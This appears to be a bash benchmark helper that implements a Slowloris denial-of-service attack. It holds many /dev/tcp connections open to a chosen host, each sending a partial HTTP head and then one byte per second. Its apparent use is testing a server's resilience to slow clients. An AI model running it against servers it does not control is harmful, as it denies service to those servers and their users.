#!/usr/bin/env bash
# dribble.sh - clients that never finish asking: the head of a request, a byte a second on each connection.
#
#   bench/lib/dribble.sh HOST PORT CLIENTS BYTES
#
# Each client says at once the first BYTES bytes of a head (at least its first two lines), then a byte a second more
# of a field that has no end. The seconds of the clients are spread evenly, since a server that gets all of them in one
# moment serves one burst a second. Prints "ready" when all have said their first bytes; goes on until it is killed or
# its standard input ends, and says on standard error how many the server has thrown out by then, if any.
#
# This costs the client nothing, which is what makes it an attack ("Slowloris"); what it may cost a server is a
# descriptor, the bytes that came so far, and a deadline. Bash's own sockets will do: /dev/tcp, bash(1), REDIRECTION.
#
# SPDX-License-Identifier: MIT
set -u
export LC_ALL=C
host=$1 port=$2 clients=$3 bytes=$4 period_us=1000000
trap '' PIPE # a server that closes is an error of printf, and no end of ours

printf -v head 'GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: ' "$host"
((${#head} >= bytes)) || printf -v head "%s%$((bytes - ${#head}))s" "$head" x

fds=() thrown_out=0
for ((i = 0; i < clients; i++)); do
  exec {fd}<>"/dev/tcp/$host/$port" || exit 1
  printf '%s' "$head" >&"$fd"
  fds+=("$fd")
done
echo ready

say_one() { # INDEX
  local fd=${fds[$1]}
  [[ -n $fd ]] || return 0
  { printf z >&"$fd"; } 2>/dev/null && return 0
  exec {fd}>&-
  fds[$1]='' thrown_out=$((thrown_out + 1))
}

# Whose turn it is follows from the clock: client i speaks when i/clients of the second have gone.
begin=${EPOCHREALTIME/./} said=0
while :; do
  due=$(((${EPOCHREALTIME/./} - begin) * clients / period_us))
  for (( ; said < due; said++)); do say_one $((said % clients)); done
  code=0
  read -r -t 0.02 || code=$?
  ((code > 128)) || break
done
((thrown_out == 0)) || echo "$thrown_out of $clients were thrown out" >&2
